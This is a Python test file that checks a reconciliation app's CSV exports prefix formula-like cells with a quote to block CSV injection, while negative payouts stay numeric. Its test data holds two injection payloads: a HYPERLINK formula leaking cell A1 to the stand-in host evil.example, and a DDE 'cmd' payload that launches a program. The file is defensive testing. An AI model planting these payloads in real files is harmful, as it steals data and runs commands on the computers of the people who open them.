"""CSV exports keep formula-like text as text (CSV injection) while negative numbers stay
numbers: only a cell that really is a number may start with a minus."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from apps.accounts import roles
from apps.audit.actors import Actor
from apps.audit.admin_export import _cell, spreadsheet_text
from apps.gateways.settlement_interface import SettlementBatchData, SettlementLineData, SettlementLineKind
from apps.reconciliation.services import settlement_batch_store
from apps.reports.api.views import _cell as report_cell

HYPERLINK = '-1+HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "-2+3+cmd|' /C calc'!A0"


def test_a_formula_after_a_minus_is_kept_text_and_a_negative_payout_stays_a_number(anet_account, staff_client):
    """Before: a cell starting with a minus and a digit was let through, formula or not."""
    settlement_batch_store(
        account=anet_account,
        data=SettlementBatchData(
            batch_id=HYPERLINK,
            settled_at=datetime.now(UTC),
            currency="USD",
            lines=[SettlementLineData("60999", SettlementLineKind.RETURN, "returnedItem", 700, "USD")],
        ),
        source="csv",
        actor=Actor.system("tests"),
    )
    response = staff_client(roles.FINANCE_VIEWER).get("/admin/reconciliation/settlementbatch/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()

    (row,) = csv.DictReader(io.StringIO(body))
    assert f"'{HYPERLINK}" in row.values()
    assert row["Payout"] == "-7.00"  # a returned debit's batch pays out less than nothing


@pytest.mark.parametrize("text", [HYPERLINK, CALC, "-1-1", "-1.5e3", "-abc", "=1+1", "+1", "@SUM(A1)", "\t=1"])
def test_formula_like_text_is_kept_text(text):
    assert _cell(text) == f"'{text}"
    assert spreadsheet_text(text) == report_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(Decimal("-7.00"), "-7.00"), (-3, "-3"), ("-12.50", "-12.50"), ("-12", "-12"), ("12", "12"), ("a-1", "a-1")],
)
def test_numbers_stay_numbers(value, cell):
    assert _cell(value) == cell
    assert report_cell(value) == (cell if isinstance(value, str) else value)
